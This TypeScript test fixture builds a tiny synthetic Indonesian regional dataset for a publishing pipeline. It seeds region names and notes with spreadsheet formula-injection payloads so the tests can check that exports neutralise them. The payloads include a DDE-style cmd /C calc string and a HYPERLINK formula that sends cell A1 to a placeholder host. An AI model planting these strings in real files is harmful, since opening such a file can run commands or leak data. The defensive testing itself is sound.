/**
 * A tiny, schema-valid PublicDataset for tests and examples: one nation, one province, two
 * kab/kota, two years, every program kind. Region names and notes can carry hostile text
 * (spreadsheet formula payloads) and figures can be overridden to simulate a revision.
 */
import { z } from 'zod';
import type { PublicDataset } from '../../src/pipeline/publish/public-dataset.ts';
import { JENIS_WITH_TOTAL, PUBLIC_TABLES, tableFields, type KawasanRecord, type ProgramRecord, type PublicTableName, type RegionRecord } from '../../src/pipeline/publish/public-schema.ts';

/** Text values that would run as formulas in a spreadsheet if written as they are. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  "'=already quoted",
] as const;

export interface TinyOptions {
  years?: readonly number[];
  /** Names of the two kab/kota (default: two formula payloads). */
  names?: readonly [string, string];
  /** Overrides of single cells: `kawasan|2024|31.72|bahaya` → value. */
  overrides?: Readonly<Record<string, number | string>>;
  synthetic?: boolean;
}

const REGIONS = [
  { tingkat: 'nasional', kode: 'ID', kode_induk: '' },
  { tingkat: 'provinsi', kode: '31', kode_induk: 'ID' },
  { tingkat: 'kabkota', kode: '31.71', kode_induk: '31' },
  { tingkat: 'kabkota', kode: '31.72', kode_induk: '31' },
] as const;

function fill(table: PublicTableName, base: Record<string, unknown>, seed: number, firstYear: boolean): Record<string, unknown> {
  const record: Record<string, unknown> = {};
  tableFields(table).forEach(({ name, meta }, index) => {
    if (name in base) record[name] = base[name];
    else if (meta.kind === 'change') record[name] = firstYear ? '[z]' : -((seed + index) % 7) - 1;
    else if (meta.kind === 'rate' || meta.kind === 'mean') record[name] = ((seed * 7 + index * 13) % 1000) / 10;
    else if (meta.kind === 'person-count') record[name] = (seed + index) % 5 === 0 ? '[c]' : 10 + ((seed * 3 + index) % 90);
    else if (meta.kind === 'count') record[name] = (seed * 11 + index * 5) % 500;
    else record[name] = '';
  });
  return record;
}

export function tinyDataset(options: TinyOptions = {}): PublicDataset {
  const years = [...(options.years ?? [2023, 2024])].sort((a, b) => a - b);
  const names = options.names ?? [FORMULA_PAYLOADS[0], FORMULA_PAYLOADS[1]];
  const nameOf = (kode: string) => (kode === 'ID' ? 'Indonesia' : kode === '31' ? 'DKI Jakarta' : kode === '31.71' ? names[0] : names[1]);
  const overrides = options.overrides ?? {};
  const apply = (table: string, record: Record<string, unknown>) => {
    for (const [key, value] of Object.entries(overrides)) {
      const [t, year, kode, field, jenis] = key.split('|');
      if (t !== table || Number(year) !== record.tahun || kode !== record.kode || (jenis && jenis !== record.jenis)) continue;
      record[field!] = value;
    }
    return record;
  };

  const wilayah = REGIONS.map((region, index) =>
    fill('wilayah', {
      ...region,
      nama: nameOf(region.kode),
      kode_lama: index === 2 ? FORMULA_PAYLOADS[3] : index === 3 ? `${FORMULA_PAYLOADS[6]} ${FORMULA_PAYLOADS[7]}` : '',
      catatan_id: index === 2 ? FORMULA_PAYLOADS[2] : index === 3 ? FORMULA_PAYLOADS[4] : '',
      catatan_en: index === 2 ? FORMULA_PAYLOADS[5] : index === 3 ? `${FORMULA_PAYLOADS[8]}; "quoted", comma; semi\nline` : '',
    }, index, true),
  );
  const kawasan: Record<string, unknown>[] = [];
  const program: Record<string, unknown>[] = [];
  years.forEach((tahun, yearIndex) => {
    REGIONS.forEach((region, index) => {
      const seed = yearIndex * 10 + index;
      kawasan.push(apply('kawasan', fill('kawasan', { tahun, ...region, nama: nameOf(region.kode), rawan_persen_perubahan: yearIndex === 0 ? '[z]' : -2.5 }, seed, yearIndex === 0)));
      JENIS_WITH_TOTAL.forEach((jenis, jenisIndex) => {
        program.push(apply('program', fill('program', { tahun, ...region, nama: nameOf(region.kode), jenis, perubahan_pendapatan_rata: jenisIndex === 2 ? -125000 : 250000 }, seed + jenisIndex, yearIndex === 0)));
      });
    });
  });
  const parse = <T>(table: PublicTableName, rows: Record<string, unknown>[]) => z.array(PUBLIC_TABLES[table]).parse(rows) as T[];
  return {
    schemaVersion: '1.0.0',
    meta: {
      title: 'Data uji kecil',
      publisher: 'Penerbit Uji',
      license: 'CC-BY-4.0',
      contact: 'uji@example.invalid',
      synthetic: options.synthetic ?? true,
      years,
      regionSource: 'idn-area-data (Kepmendagri)',
      disclosureThreshold: 10,
    },
    wilayah: parse<RegionRecord>('wilayah', wilayah),
    kawasan: parse<KawasanRecord>('kawasan', kawasan),
    program: parse<ProgramRecord>('program', program),
    jangkauan: [],
    peralihan: [],
    hasil: [],
  };
}

